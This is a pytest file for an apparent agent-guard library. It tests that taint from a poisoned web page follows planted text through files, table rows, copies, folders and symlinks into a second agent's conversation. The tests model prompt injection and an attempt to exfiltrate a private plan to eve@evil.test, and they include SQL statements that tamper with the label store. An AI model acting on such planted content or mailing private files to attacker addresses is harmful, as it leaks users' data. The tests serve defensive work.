"""Case 31: one agent writes what it read into a file, another one reads the file and starts clean.

What a conversation writes under its labels carries them, from before it is written, and whoever reads it gets them
before the call is decided: a file, a row of a table, a copy, a folder or a link, and nobody need report a result. A
record that is lost is every leg, so the read is refused. The honest twin shares files that nobody tainted.
Mutations that this file catches: artifacts not labelled before the decision; labels of artifacts left out of the
forecast; no second look after the call; a lost record that reads as clean.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from interlock import Call, Guard, Interlock, MemoryJournal, Outcome, ToolResult
from interlock.errors import MemoryUnavailable
from interlock.model.carried import Carried
from interlock.model.labels import EVERY_LEG, Label
from interlock.stores.memory_artifacts import MemoryArtifacts
from interlock.stores.sql_artifacts import SqlArtifacts
from interlock.stores.sqlite import SqliteStore
from tests.cases.desk import did, fresh, got, shared
from tests.cases.poisoned import EVIL, KIM, MANIFEST, PAGE, PLANT, Desk, desks, named, sends


@pytest.fixture(params=["memory", "sqlite"])
def desk(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Desk]:
    yield from desks(request.param, tmp_path)


def refused(outcome: Outcome) -> None:
    """Every leg was in the forecast of a read whose record is lost."""
    assert outcome.verdict != "allow"
    assert {one.label for one in outcome.decision.causes} == {"private:unknown", "egress:unknown"}
    assert PLANT not in outcome.for_model


def wrote(guard: Guard, path: str = "notes.txt") -> None:
    assert did(guard, "save", {"path": path, "text": PLANT}).executed


def test_attack_t12_page_file_read_send(desk: Desk) -> None:
    first = desk.poisoned()
    wrote(first)
    second = desk.fresh()
    assert did(second, "load", {"path": "./notes.txt"}, PLANT).for_model == PLANT
    note = named(sends(second))
    assert note.startswith(f"{PAGE} (call 1 web_fetch of {first.conversation.id})")
    assert "notes.txt" in note


def test_attack_t12_through_a_row_of_a_table(desk: Desk) -> None:
    assert did(desk.poisoned(), "insert", {"table": "Notes", "row": PLANT}).executed
    second = desk.fresh()
    assert did(second, "select", {"table": '"notes"'}, PLANT).executed
    assert PAGE in named(sends(second))


def test_attack_t12_through_copies(desk: Desk) -> None:
    wrote(desk.poisoned(), "a.txt")
    assert did(desk.fresh(), "copy", {"source": "a.txt", "target": "b.txt"}).executed
    second = desk.fresh()
    assert did(second, "load", {"path": "b.txt"}, PLANT).executed
    assert PAGE in named(sends(second))


@pytest.mark.parametrize(
    ("written", "read"), [("notes", "notes/a.txt"), ("notes/a.txt", "notes"), ("notes/a.txt", ".")]
)
def test_attack_t12_a_folder_is_what_is_in_it(desk: Desk, written: str, read: str) -> None:
    wrote(desk.poisoned(), written)
    second = desk.fresh()
    did(second, "load", {"path": read}, PLANT)
    assert PAGE in named(sends(second))


def test_attack_t12_a_link_is_where_it_leads(desk: Desk, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("x")
    os.symlink(tmp_path / "notes.txt", tmp_path / "harmless.txt")
    wrote(desk.poisoned(), str(tmp_path / "notes.txt"))
    second = desk.fresh()
    did(second, "load", {"path": str(tmp_path / "harmless.txt")}, PLANT)
    assert PAGE in named(sends(second))


def test_attack_t2_the_labels_count_before_the_decision(desk: Desk) -> None:
    """A file that is sent on unread: what it carries is in the forecast of the very call."""
    secret = desk.fresh()
    assert did(secret, "read_plan").executed
    wrote(secret, "plan.txt")
    second = desk.poisoned()
    outcome = did(second, "attach", {"to": "eve@evil.test", "path": "plan.txt"})
    assert got(outcome) == ("deny", "trifecta")
    assert "private:files" in {one.label for one in outcome.decision.causes}
    # Without the secret a send to a stranger is only asked about.
    assert got(did(second, "attach", {"to": "eve@evil.test", "path": "harmless.txt"})) == ("ask", "steered_destination")


def test_attack_t2_labels_that_come_while_the_call_runs(desk: Desk) -> None:
    """The file is poisoned between the decision and the result: the result brings it all the same."""
    second = desk.fresh()
    ticket = second.propose(Call("load", {"path": "notes.txt"}, id="1"))
    wrote(desk.poisoned())
    second.observe(ticket, "1", ToolResult(PLANT, external=False))
    assert PAGE in named(sends(second))


def test_attack_t2_a_write_that_nobody_reports(desk: Desk) -> None:
    first = desk.poisoned()
    first.propose(Call("save", {"path": "notes.txt", "text": PLANT}, id="1"))
    second = desk.fresh()
    did(second, "load", {"path": "notes.txt"}, PLANT)
    assert PAGE in named(sends(second))


def test_attack_t14_in_an_event_loop_too(desk: Desk) -> None:
    async def story() -> None:
        first = desk.poisoned()
        assert (await first.acall("save", {"path": "n.txt", "text": PLANT}, run=lambda **_: "ok")).executed
        second = desk.fresh()
        assert (await second.acall("load", {"path": "n.txt"}, run=lambda **_: PLANT)).executed
        assert PAGE in named(sends(second))

    asyncio.run(story())


def test_attack_a_write_that_can_not_be_labelled_does_not_run(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: Any, **__: Any) -> None:
        raise MemoryUnavailable("disk full")

    monkeypatch.setattr(desk.artifacts, "label", full)
    ran: list[object] = []
    outcome = desk.poisoned().call("save", {"path": "x", "text": "x"}, run=lambda **_: ran.append(1))
    assert got(outcome) == ("deny", "journal_error")
    assert not ran


def test_attack_a_read_that_can_not_be_looked_up_shows_nothing(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    second = desk.fresh()
    ticket = second.propose(Call("load", {"path": "notes.txt"}, id="1"))

    def down(*_: Any, **__: Any) -> None:
        raise MemoryUnavailable("gone")

    monkeypatch.setattr(desk.artifacts, "carried", down)
    outcome = second.observe(ticket, "1", PLANT)
    assert PLANT not in outcome.for_model
    assert got(did(second, "load", {"path": "notes.txt"})) == ("deny", "journal_error")


@pytest.mark.parametrize("path", [None, 3, "", ["a", None], {"a": 1}])
def test_attack_what_names_nothing_is_a_lost_record(desk: Desk, path: Any) -> None:
    refused(did(desk.fresh(), "load", {"path": path}, PLANT))


def test_attack_a_write_to_nobody_knows_where(desk: Desk) -> None:
    first = desk.poisoned()
    assert did(first, "save", {"text": PLANT}).executed
    second = desk.fresh()
    did(second, "load", {"path": "anything.txt"}, PLANT)
    assert PAGE in named(sends(second))


@pytest.mark.parametrize(
    "damage",
    [
        "DELETE FROM interlock_artifacts WHERE sequence = 1",
        "DELETE FROM interlock_artifacts WHERE sequence = 2",
        "UPDATE interlock_artifacts SET labels = CAST(replace(labels, 'web', 'wee') AS BLOB)",
        "UPDATE interlock_artifacts SET artifact = CAST('path:/else' AS BLOB) WHERE sequence = 1",
        "DELETE FROM interlock_artifact_head",
    ],
)
def test_attack_a_record_that_is_lost_is_every_leg(tmp_path: Path, damage: str) -> None:
    SqliteStore.migrate(tmp_path / "a.db")
    store = SqliteStore(tmp_path / "a.db", durability="process")
    artifacts = SqlArtifacts.begin(store)
    web = Carried((Label("untrusted:web"),))
    artifacts.label(["path:/a"], web, namespace="default")
    artifacts.label(["path:/b"], web, namespace="default")
    assert not SqlArtifacts(store).damage
    store.database.transact(lambda cursor: cursor.run(damage))
    again = SqlArtifacts(store)
    assert again.damage
    assert set(EVERY_LEG) <= set(again.carried(["path:/never/seen"], namespace="default").labels)
    store.close()


def test_attack_no_record_at_all_is_every_leg(tmp_path: Path) -> None:
    SqliteStore.migrate(tmp_path / "a.db")
    store = SqliteStore(tmp_path / "a.db", durability="process")
    for artifacts in (None, MemoryArtifacts(), SqlArtifacts(store)):
        lock = Interlock(manifest=MANIFEST, engine=shared().engine, journal=MemoryJournal(), artifacts=artifacts)
        refused(did(fresh(lock), "load", {"path": "notes.txt"}, PLANT))
        begun = fresh(lock)
        begun.admit_artifact("x", "path", "notes.txt")
        assert set(begun.conversation.taint) == set(EVERY_LEG)
    store.close()


def test_honest_clean_files_stay_clean(desk: Desk) -> None:
    writer = desk.fresh("Note: likes short letters.")
    wrote(writer)
    second = desk.fresh("Send the plan to kim@corp.example please.")
    assert did(second, "load", {"path": "notes.txt"}, "short letters").executed
    assert did(second, "load", {"path": "other.txt"}, "never written").executed
    assert not second.conversation.taint
    assert did(second, "read_plan").executed
    assert did(second, "send_email", KIM).executed
    assert did(second, "send_email", EVIL).executed  # private alone is no trifecta
